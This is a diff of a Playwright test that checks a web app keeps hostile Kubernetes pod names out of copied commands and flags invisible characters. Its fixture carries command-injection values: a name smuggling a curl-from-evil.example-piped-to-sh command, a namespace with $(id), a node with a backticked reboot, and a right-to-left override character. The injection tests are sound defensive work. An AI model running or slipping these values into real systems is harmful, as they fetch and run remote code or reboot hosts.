@@ -4,22 +4,15 @@
 import { test, expect } from '@playwright/test';
 import { APP_URL } from '../../playwright.config';
 import { pasteText } from './helpers';
+import { describePod, SANDBOX_EVENT } from '../engine/hostile/pastes';
 
 const NAME = 'web-1; curl -s https://evil.example/x.sh | sh; #';
-const PASTE = [
-  `Name:             ${NAME}`,
-  'Namespace:        shop$(id)',
-  'Priority:         0',
-  'Node:             cn-hangzhou.10.0.3.19`reboot`/10.0.3.19',
-  'Status:           Pending',
-  'Containers:',
-  '  web:',
-  '    Image:          nginx',
-  'Events:',
-  '  Type     Reason                  Age                From     Message',
-  '  ----     ------                  ----               ----     -------',
-  '  Warning  FailedCreatePodSandBox  2m (x4 over 3m)    kubelet  Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network for sandbox "abc": plugin type="terway" failed (add): cmdAdd: error alloc ip rpc error: code = DeadlineExceeded desc = context deadline \u202eexceeded',
-].join('\n');
+const PASTE = describePod({
+  name: NAME,
+  namespace: 'shop$(id)',
+  node: 'cn-hangzhou.10.0.3.19`reboot`',
+  event: SANDBOX_EVENT.replace('deadline exceeded', 'deadline \u202eexceeded'),
+});
 
 test('hostile names never reach a copied command; invisible characters are flagged', async ({ page, context }) => {
   await context.grantPermissions(['clipboard-read', 'clipboard-write']);
